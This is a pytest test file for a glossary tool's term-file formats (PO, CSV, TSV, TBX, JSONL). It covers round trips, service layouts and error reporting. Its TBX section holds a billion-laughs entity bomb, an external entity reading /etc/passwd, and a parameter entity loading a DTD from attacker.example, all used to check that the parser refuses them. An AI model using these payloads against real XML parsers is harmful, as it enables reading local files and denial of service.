"""Term-file formats: one contract every format meets, then each format's own rules.

``TestFormatContract`` runs over every format (po, csv, tsv, tbx, jsonl), so a new format gets the
whole round-trip suite by adding one ``FormatSpec``. What a format cannot hold is declared there and
left out of the comparison, never papered over.
"""

from __future__ import annotations

import dataclasses
import os
import re
import string
from dataclasses import dataclass
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from glossmt.glossary.errors import BadInputError, TermFileError
from glossmt.glossary.formats import delimited_csv, delimited_tsv, dumps_terms, jsonl, read_terms, tbx, write_terms
from glossmt.glossary.formats.po import read_po
from glossmt.glossary.model import Origin, Term, TermType


@dataclass(frozen=True)
class FormatSpec:
    """One format and what it can hold."""

    name: str
    comments: bool  # keeps PO translator comments
    line_breaks: bool  # a note may span lines
    per_term: bool  # type, avoid and note may differ between the forms of one concept (sources always may)

    @property
    def suffix(self) -> str:
        return f".{self.name}"


SPECS = (
    FormatSpec("po", comments=True, line_breaks=True, per_term=True),
    FormatSpec("csv", comments=False, line_breaks=True, per_term=True),
    FormatSpec("tsv", comments=False, line_breaks=False, per_term=True),
    FormatSpec("tbx", comments=True, line_breaks=True, per_term=False),
    FormatSpec("jsonl", comments=True, line_breaks=True, per_term=True),
)

# --- strategies ------------------------------------------------------------------------------------

HAN = st.characters(min_codepoint=0x4E00, max_codepoint=0x9FFF)
chinese = st.lists(st.text(HAN, min_size=1, max_size=4), min_size=1, max_size=3).map("·".join)
word = st.text(string.ascii_letters + "éöñ", min_size=1, max_size=8)
separator = st.sampled_from([" ", "-", "'", ", ", ' "', '" ', " O'"])
english = st.builds(
    lambda first, rest, quoted: f'"{first}{"".join(rest)}"' if quoted else first + "".join(rest),
    word,
    st.lists(st.tuples(separator, word).map("".join), max_size=3),
    st.booleans(),
)
slug = st.from_regex(r"[a-z][a-z0-9-]{0,15}", fullmatch=True)
text_line = (
    st.text(string.ascii_letters + string.digits + " ,.;:'\"()-/" + "矿区北京", min_size=1, max_size=20)
    .map(str.strip)
    .filter(bool)
)
url = st.from_regex(r"https://[a-z]{1,8}\.example/[a-z0-9/]{0,10}", fullmatch=True)
url_lists = st.lists(url, max_size=2, unique=True).map(tuple)


def lines(max_lines: int) -> st.SearchStrategy[str]:
    return st.lists(text_line, max_size=max_lines).map("\n".join)


def metadata(spec: FormatSpec) -> st.SearchStrategy[dict[str, object]]:
    return st.fixed_dictionaries(
        {
            "type": st.none() | st.sampled_from(TermType),
            "avoid": st.lists(english, max_size=3, unique=True).map(tuple),
            "note": lines(3 if spec.line_breaks else 1),
            "sources": url_lists,
        }
    )


@st.composite
def glossaries(draw: st.DrawFn, spec: FormatSpec) -> list[Term]:
    """Random terms grouped by concept; per-form metadata varies only where the format holds it."""
    terms: list[Term] = []
    concepts: set[str] = set()
    sources: set[str] = set()
    for _ in range(draw(st.integers(min_value=0, max_value=4))):
        target = draw(english)
        concept = draw(st.just(target) | slug)
        if concept in concepts:
            continue
        concepts.add(concept)
        shared = draw(metadata(spec))
        for position, source in enumerate(draw(st.lists(chinese, min_size=1, max_size=3, unique=True))):
            if source in sources:
                continue
            sources.add(source)
            meta = draw(metadata(spec)) if spec.per_term and position else dict(shared)
            meta["sources"] = draw(st.just(shared["sources"]) | url_lists)
            terms.append(
                Term(
                    source=source,
                    target=target if position == 0 else draw(st.just(target) | english),
                    concept=concept,
                    draft=draw(st.booleans()),
                    comment=draw(lines(2)),
                    **meta,  # type: ignore[arg-type]
                )
            )
    return terms


def held(term: Term, spec: FormatSpec) -> Term:
    """``term`` as ``spec``'s format gives it back: no origin, no comment where it cannot hold one."""
    return dataclasses.replace(term, origin=None, comment=term.comment if spec.comments else "")


SAMPLE = [
    Term("霍华德·卢特尼克", "Howard Lutnick", "lutnick", TermType.PERSON, ("Howard Lutnik",), "US commerce secretary"),
    Term("卢特尼克", "Howard Lutnick", "lutnick", TermType.PERSON, ("Howard Lutnik",), "US commerce secretary"),
    Term("上凯拉克京斯科耶", "Upper Kairaktinskoye", "upper-kairaktinskoye", TermType.DEPOSIT, draft=True),
]


# --- the contract ----------------------------------------------------------------------------------


@pytest.mark.parametrize("spec", SPECS, ids=[spec.name for spec in SPECS])
class TestFormatContract:
    @settings(max_examples=60)
    @given(data=st.data())
    def test_round_trip_keeps_what_the_format_holds(
        self, spec: FormatSpec, tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
    ) -> None:
        terms = data.draw(glossaries(spec))
        path = tmp_path_factory.mktemp(spec.name) / f"terms{spec.suffix}"
        write_terms(terms, path)
        assert [held(t, spec) for t in read_terms(path)] == [held(t, spec) for t in terms]

    def test_terms_read_back_name_their_file_and_line(self, spec: FormatSpec, tmp_path: Path) -> None:
        path = tmp_path / f"terms{spec.suffix}"
        write_terms(SAMPLE, path)
        origins = [t.origin for t in read_terms(path)]
        assert all(o is not None and o.path == str(path) and o.line > 0 for o in origins)

    def test_an_empty_glossary_reads_back_empty(self, spec: FormatSpec, tmp_path: Path) -> None:
        path = tmp_path / f"empty{spec.suffix}"
        write_terms([], path)
        assert read_terms(path) == []

    def test_chinese_is_written_as_utf8_text_not_escapes(self, spec: FormatSpec, tmp_path: Path) -> None:
        path = tmp_path / f"terms{spec.suffix}"
        write_terms(SAMPLE, path)
        assert "霍华德·卢特尼克" in path.read_bytes().decode("utf-8")

    def test_a_missing_file_is_bad_input(self, spec: FormatSpec, tmp_path: Path) -> None:
        with pytest.raises(BadInputError, match="no such file"):
            read_terms(tmp_path / f"missing{spec.suffix}")


# --- CSV and TSV: service layouts --------------------------------------------------------------------

SERVICE_TERMS = [Term("卢特尼克", "Howard Lutnick", "lutnick"), Term("凯拉克", "Kairakty, Upper", "kairakty")]


@pytest.mark.parametrize(
    ("module", "layout", "expected"),
    [
        (delimited_csv, "deepl", '卢特尼克,Howard Lutnick\n凯拉克,"Kairakty, Upper"\n'),
        (delimited_tsv, "deepl", "卢特尼克\tHoward Lutnick\n凯拉克\tKairakty, Upper\n"),
        (delimited_csv, "google", '卢特尼克,Howard Lutnick\n凯拉克,"Kairakty, Upper"\n'),
        (delimited_tsv, "google", "卢特尼克\tHoward Lutnick\n凯拉克\tKairakty, Upper\n"),
        (delimited_csv, "amazon", 'zh,en\n卢特尼克,Howard Lutnick\n凯拉克,"Kairakty, Upper"\n'),
        (delimited_tsv, "amazon", "zh\ten\n卢特尼克\tHoward Lutnick\n凯拉克\tKairakty, Upper\n"),
    ],
    ids=["deepl-csv", "deepl-tsv", "google-csv", "google-tsv", "amazon-csv", "amazon-tsv"],
)
def test_service_layouts_are_written_as_the_services_document(module, layout: str, expected: str) -> None:
    assert module.dumps(SERVICE_TERMS, layout=layout) == expected


def test_glossmt_layout_has_a_header_and_joins_lists_with_semicolons() -> None:
    term = Term(
        "卢特尼克", "Lutnick", "lutnick", TermType.PERSON, ("Lutnik", "Lootnick"), "short form", ("https://a.example",)
    )
    assert delimited_csv.dumps([term]) == (
        "zh,en,concept,type,avoid,note,status,source\n"
        "卢特尼克,Lutnick,lutnick,person,Lutnik; Lootnick,short form,approved,https://a.example\n"
    )


def test_service_layouts_leave_out_terms_without_english_and_repeated_pairs() -> None:
    terms = [Term("甲", "A", "a"), Term("甲", "A", "a"), Term("乙", "", "b", draft=True)]
    assert delimited_csv.dumps(terms, layout="deepl") == "甲,A\n"


@pytest.mark.parametrize(
    ("module", "text", "expected"),
    [
        (delimited_csv, "霍华德,Howard\n", [("霍华德", "Howard", "Howard", "")]),
        (delimited_csv, '"霍华德", "Howard, Jr"\n', [("霍华德", "Howard, Jr", "Howard, Jr", "")]),
        (delimited_csv, "霍华德,Howard,zh,en\n", [("霍华德", "Howard", "Howard", "")]),
        (delimited_csv, "Howard,霍华德,en,zh\n", [("霍华德", "Howard", "Howard", "")]),
        (delimited_tsv, "霍华德\tHoward\n", [("霍华德", "Howard", "Howard", "")]),
        (delimited_csv, "zh-CN,en,pos,description\n霍,Howard,n,a name\n", [("霍", "Howard", "Howard", "a name")]),
        (delimited_csv, "zh,en\n霍华德,Howard\n", [("霍华德", "Howard", "Howard", "")]),
        (delimited_csv, "en,fr,zh\nHoward,Howard,霍华德\n", [("霍华德", "Howard", "Howard", "")]),
        (delimited_tsv, "zh-Hans\ten-US\n霍华德\tHoward\n", [("霍华德", "Howard", "Howard", "")]),
        (delimited_csv, "source,target\n霍华德,Howard\n", [("霍华德", "Howard", "Howard", "")]),
        (delimited_csv, "\ufeffzh,en\r\n霍华德,Howard\r\n\r\n", [("霍华德", "Howard", "Howard", "")]),
    ],
    ids=[
        "deepl-csv",
        "deepl-csv-quoted-spaces",
        "deepl-csv-4-columns",
        "deepl-csv-4-columns-reversed",
        "deepl-google-tsv",
        "google-equivalent-term-sets",
        "amazon-csv",
        "amazon-csv-more-languages",
        "tsv-header-with-regions",
        "source-target-header",
        "excel-bom-crlf",
    ],
)
def test_service_files_are_read(module, text: str, expected: list[tuple[str, str, str, str]], tmp_path: Path) -> None:
    path = tmp_path / "terms.txt"
    path.write_text(text, encoding="utf-8", newline="")
    assert [(t.source, t.target, t.concept, t.note) for t in module.read(path)] == expected


@pytest.mark.parametrize(
    ("module", "text", "line", "message"),
    [
        (delimited_csv, "甲,A\n乙,B\n丙,C,D\n", 3, "3 cells"),
        (delimited_csv, "zh,en\n,Foo\n", 2, "Chinese cell is empty"),
        (delimited_csv, "甲,A\n乙,\n", 2, "English cell is empty"),
        (delimited_csv, '甲,A\n乙,"B\n丙,C\n', 2, "CSV syntax error"),
        (delimited_csv, 'zh,en,note\n甲,A,ok\n乙,"B"x,1\n', 3, "CSV syntax error"),
        (delimited_csv, "zh,en,concept,type,avoid,note,status,source\n甲,A,a,person,,,approved\n", 2, "7 cells"),
        (delimited_csv, "zh,en,status\n甲,A,done\n", 2, "unknown status"),
        (delimited_csv, "zh,en,type\n甲,A,river\n", 2, "unknown type"),
        (delimited_csv, "甲,A,de,fr\n", 1, "de→fr"),
        (delimited_csv, "zh,fr\n甲,A\n", 1, "no Chinese and English columns"),
        (delimited_tsv, "甲\tA\tB\n", 1, "3 cells"),
        (delimited_tsv, 'zh\ten\n霍华德\t"Howard\nLutnick"\n', 3, "1 cells"),
        (delimited_tsv, '"霍华\n德"\tHoward\n', 1, "1 cells"),
    ],
    ids=[
        "csv-extra-column",
        "csv-empty-chinese",
        "csv-empty-english",
        "csv-unclosed-quote",
        "csv-text-after-quote",
        "csv-short-glossmt-row",
        "csv-unknown-status",
        "csv-unknown-type",
        "csv-deepl-other-languages",
        "csv-header-without-english",
        "tsv-extra-column",
        "tsv-line-break-in-english",
        "tsv-line-break-in-chinese",
    ],
)
def test_malformed_rows_name_their_line(module, text: str, line: int, message: str, tmp_path: Path) -> None:
    path = tmp_path / "bad.txt"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(TermFileError, match=re.escape(message)) as caught:
        module.read(path)
    assert (caught.value.path, caught.value.line) == (str(path), line)
    assert caught.value.hint


def test_tsv_refuses_to_write_a_line_break_and_names_the_term() -> None:
    term = Term("甲", "A", "a", note="two\nlines", origin=Origin("terms/a.po", 7))
    with pytest.raises(TermFileError, match="note of 甲 holds a tab or line break") as caught:
        delimited_tsv.dumps([term])
    assert caught.value.location == "terms/a.po:7"


def test_a_draft_row_may_lack_english(tmp_path: Path) -> None:
    path = tmp_path / "terms.csv"
    path.write_text("zh,en,status\n甲,,draft\n", encoding="utf-8")
    assert [(t.source, t.target, t.concept, t.draft) for t in delimited_csv.read(path)] == [("甲", "", "甲", True)]


@pytest.mark.parametrize(
    ("layout", "text", "message"),
    [("amazon", "甲,A\n", "starts with a header row"), ("glossmt", "甲,A\n", "starts with a header row")],
    ids=["amazon", "glossmt"],
)
def test_a_named_layout_with_a_header_requires_one(layout: str, text: str, message: str, tmp_path: Path) -> None:
    path = tmp_path / "terms.csv"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(TermFileError, match=message):
        delimited_csv.read(path, layout=layout)


def test_a_named_headerless_layout_reads_the_first_row_as_data(tmp_path: Path) -> None:
    path = tmp_path / "terms.csv"
    path.write_text("source,target\n", encoding="utf-8")
    assert [(t.source, t.target) for t in delimited_csv.read(path, layout="google")] == [("source", "target")]


# --- TBX -------------------------------------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE tbx [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<tbx><text><body><conceptEntry id="c"><note>&lol3;</note></conceptEntry></body></text></tbx>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE tbx [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<tbx><text><body><conceptEntry id="c"><note>&secret;</note></conceptEntry></body></text></tbx>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE tbx [<!ENTITY % remote SYSTEM "https://attacker.example/x.dtd"> %remote;]>
<tbx/>
"""


@pytest.mark.parametrize(
    "text", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY], ids=["billion-laughs", "external", "parameter"]
)
def test_tbx_refuses_entity_declarations(text: str, tmp_path: Path) -> None:
    path = tmp_path / "evil.tbx"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(TermFileError, match="declares XML entities") as caught:
        tbx.read(path)
    assert caught.value.path == str(path)
    assert "DOCTYPE" in (caught.value.hint or "")


MARTIF = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE martif SYSTEM "TBXcoreStructV02.dtd">
<martif type="TBX" xml:lang="en">
  <martifHeader><fileDesc><sourceDesc><p>from a CAT tool</p></sourceDesc></fileDesc></martifHeader>
  <text><body>
    <termEntry id="c42">
      <descripGrp><descrip type="subjectField">place</descrip></descripGrp>
      <langSet xml:lang="zh-CN">
        <tig><term>北京</term><termNote type="normativeAuthorization">preferredTerm-admn-sts</termNote></tig>
        <ntig><termGrp><term>北平</term><termNote type="administrativeStatus">admittedTerm-admn-sts</termNote>
        </termGrp><note>historical name</note></ntig>
      </langSet>
      <langSet xml:lang="en-US">
        <tig><term>Beijing</term><termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></tig>
        <tig><term>Peking</term><termNote type="administrativeStatus">supersededTerm-admn-sts</termNote></tig>
        <tig><term>Peiping</term><termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote></tig>
      </langSet>
      <langSet xml:lang="fr"><tig><term>Pékin</term></tig></langSet>
    </termEntry>
  </body></text>
</martif>
"""


def test_tbx_reads_the_2008_martif_form_with_a_plain_doctype(tmp_path: Path) -> None:
    path = tmp_path / "old.tbx"
    path.write_text(MARTIF, encoding="utf-8")
    assert [dataclasses.replace(t, origin=None) for t in tbx.read(path)] == [
        Term("北京", "Beijing", "c42", TermType.PLACE, ("Peking", "Peiping")),
        Term("北平", "Beijing", "c42", TermType.PLACE, ("Peking", "Peiping"), comment="historical name"),
    ]


FOREIGN_2019 = """<?xml version="1.0" encoding="UTF-16"?>
<tbx xmlns="urn:iso:std:iso:30042:ed-2" type="TBX-Basic" style="dca" xml:lang="en">
  <text><body>
    <conceptEntry id="kairakty">
      <descrip type="subjectField">Mining</descrip>
      <descrip type="definition">a tungsten deposit</descrip>
      <xref type="externalCrossReference" target="https://a.example/k">source</xref>
      <langSec xml:lang="zh">
        <termSec><term>上凯拉克京斯科耶</term>
          <termNote type="processStatus">provisionallyProcessed</termNote></termSec>
      </langSec>
      <langSec xml:lang="en">
        <termSec><term>Upper Kairaktinskoye</term>
          <termNote type="administrativeStatus">admittedTerm-admn-sts</termNote></termSec>
        <termSec><term>Kairakty</term>
          <termNote type="administrativeStatus">admittedTerm-admn-sts</termNote></termSec>
      </langSec>
    </conceptEntry>
    <conceptEntry id="english-only">
      <langSec xml:lang="en"><termSec><term>Orphan</term></termSec></langSec>
    </conceptEntry>
    <conceptEntry id="no-english">
      <langSec xml:lang="zh"><termSec><term>孤儿</term></termSec></langSec>
    </conceptEntry>
  </body></text>
</tbx>
"""


def test_tbx_reads_2019_statuses_from_other_tools(tmp_path: Path) -> None:
    path = tmp_path / "foreign.tbx"
    path.write_bytes(FOREIGN_2019.encode("utf-16"))
    terms = [dataclasses.replace(t, origin=None) for t in tbx.read(path)]
    note = "subject field: Mining\ndefinition: a tungsten deposit\nadmitted English: Kairakty"
    assert terms == [
        Term(
            "上凯拉克京斯科耶",
            "Upper Kairaktinskoye",
            "kairakty",
            note=note,
            sources=("https://a.example/k",),
            draft=True,
        ),
        Term("孤儿", "", "no-english", draft=True),
    ]


def test_tbx_is_written_as_tbx_basic_2019() -> None:
    terms = [
        Term("霍华德·卢特尼克", "Howard Lutnick", "Howard Lutnick", TermType.PERSON, ("Howard Lutnik",), draft=True),
        Term("卢特尼克", "Lutnick", "Howard Lutnick", TermType.PERSON, comment="short form"),
    ]
    text = tbx.dumps(terms)
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<tbx xmlns="urn:iso:std:iso:30042:ed-2"')
    root = ElementTree.fromstring(text)
    ns = {"t": tbx.NAMESPACE}
    entry = root.find("t:text/t:body/t:conceptEntry", ns)
    assert entry is not None
    assert entry.get("id") == "Howard_x0020_Lutnick"
    assert entry.findtext("t:descrip[@type='subjectField']", namespaces=ns) == "person"
    statuses = [
        (sec.findtext("t:term", namespaces=ns), sec.findtext("t:termNote[@type='administrativeStatus']", namespaces=ns))
        for sec in entry.iterfind("t:langSec/t:termSec", ns)
    ]
    assert statuses == [
        ("霍华德·卢特尼克", tbx.PREFERRED),
        ("卢特尼克", tbx.ADMITTED),
        ("Howard Lutnick", tbx.PREFERRED),
        ("Lutnick", tbx.ADMITTED),
        ("Howard Lutnik", tbx.DEPRECATED),
    ]
    draft = entry.findtext("t:langSec/t:termSec/t:termNote[@type='processStatus']", namespaces=ns)
    assert draft == "provisionallyProcessed"


@settings(max_examples=200)
@given(st.text(min_size=1).filter(lambda s: "\x00" not in s))
def test_tbx_concept_ids_are_xml_names_that_decode_back(concept: str) -> None:
    name = tbx.encode_id(concept)
    assert tbx.decode_id(name) == concept
    ElementTree.fromstring(f'<e xml:id="x" id="{name}"><{name}/></e>')  # a valid element name is a valid id


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ("<tbx><text><body>\n<conceptEntry>\n</body></text></tbx>", 3, "XML syntax error: mismatched tag"),
        ("not xml at all", 1, "XML syntax error"),
        ('<?xml version="1.0"?>\n<html/>', 2, "root element is <html>"),  # the root's own line
    ],
    ids=["mismatched-tag", "not-xml", "wrong-root"],
)
def test_tbx_errors_name_their_line(text: str, line: int, message: str, tmp_path: Path) -> None:
    path = tmp_path / "bad.tbx"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(TermFileError, match=re.escape(message)) as caught:
        tbx.read(path)
    assert caught.value.line == line


# --- JSONL -----------------------------------------------------------------------------------------


def test_jsonl_reads_a_line_that_is_a_list_of_terms(tmp_path: Path) -> None:
    path = tmp_path / "terms.jsonl"
    text = '{"zh": "甲", "en": "A"}\n\n[{"zh": "乙", "en": "B", "concept": "b"}, {"zh": "丙", "en": "B"}]'
    path.write_text(text, encoding="utf-8")
    assert [(t.source, t.concept, t.origin) for t in jsonl.read(path)] == [
        ("甲", "A", Origin(str(path), 1)),
        ("乙", "b", Origin(str(path), 3)),
        ("丙", "B", Origin(str(path), 3)),
    ]


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ('{"zh": "乙", "en": "B",}', "not JSON: Expecting property name"),
        ('"乙"', "expected a JSON object, found str"),
        ('{"zh": "乙", "en": "B", "avoids": ["C"]}', "unknown key 'avoids'"),
        ('{"zh": "乙", "en": "B", "avoid": "C"}', '"avoid" must be a list of strings'),
        ('{"zh": "乙", "en": "B", "draft": "yes"}', '"draft" must be true or false'),
        ('{"zh": "乙", "en": "B", "type": "river"}', "unknown type 'river'"),
        ('{"en": "B"}', '"zh" is missing or empty'),
        ('{"zh": "乙", "en": ""}', '"en" is missing or empty'),
        ('{"zh": "乙", "en": 3}', '"en" must be a string'),
    ],
    ids=[
        "bad-json",
        "not-object",
        "unknown-key",
        "avoid-not-list",
        "draft-not-bool",
        "unknown-type",
        "no-zh",
        "empty-en",
        "en-not-string",
    ],
)
def test_jsonl_errors_name_their_line(line: str, message: str, tmp_path: Path) -> None:
    path = tmp_path / "bad.jsonl"
    path.write_text(f'{{"zh": "甲", "en": "A"}}\n{line}\n', encoding="utf-8")
    with pytest.raises(TermFileError, match=re.escape(message)) as caught:
        jsonl.read(path)
    assert caught.value.location == f"{path}:2"


# --- PO --------------------------------------------------------------------------------------------

HAND_WRITTEN_PO = """\
msgid ""
msgstr ""
"Content-Type: text/plain; charset=UTF-8\\n"

# checked against the 2024 cadastre
# second comment line
#. type: deposit
msgctxt "upper-kairaktinskoye"
msgid "上凯拉克京斯科耶"
msgstr "Upper Kairaktinskoye"

# a person
msgctxt "lutnick"
msgid "霍华德·卢特尼克"
msgstr "Howard Lutnick"
"""


def test_po_rewrite_keeps_translator_comments_and_order(tmp_path: Path) -> None:
    path = tmp_path / "terms.po"
    path.write_text(HAND_WRITTEN_PO, encoding="utf-8")
    write_terms(read_po(path), path)
    text = path.read_text(encoding="utf-8")
    assert "# checked against the 2024 cadastre\n# second comment line\n#. type: deposit\n" in text
    assert text.index("上凯拉克京斯科耶") < text.index("霍华德·卢特尼克")
    assert [t.comment for t in read_po(path)] == ["checked against the 2024 cadastre\nsecond comment line", "a person"]
    assert os.listdir(tmp_path) == ["terms.po"]  # no temporary file left behind


def test_po_write_is_atomic_when_the_rename_fails(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "terms.po"
    path.write_text(HAND_WRITTEN_PO, encoding="utf-8")

    def fail(src: str, dst: str) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", fail)
    with pytest.raises(BadInputError, match="No space left"):
        write_terms(SAMPLE, path)
    assert path.read_text(encoding="utf-8") == HAND_WRITTEN_PO
    assert os.listdir(tmp_path) == ["terms.po"]


def test_po_dumps_through_the_registry_matches_the_file_written(tmp_path: Path) -> None:
    path = tmp_path / "terms.po"
    write_terms(SAMPLE, path)
    assert path.read_text(encoding="utf-8") == dumps_terms(SAMPLE, "po")


def test_every_format_declares_itself_once() -> None:
    from glossmt.glossary.formats import MODULES, format_for, formats

    registry = formats()
    assert len(registry) == len(MODULES)
    extensions = [ext for f in registry.values() for ext in f.extensions]
    assert len(extensions) == len(set(extensions))
    for fmt in registry.values():
        assert all(format_for(f"terms{ext}") == fmt.name for ext in fmt.extensions)
    assert {name for name, f in registry.items() if f.layouts} == {"csv", "tsv"}
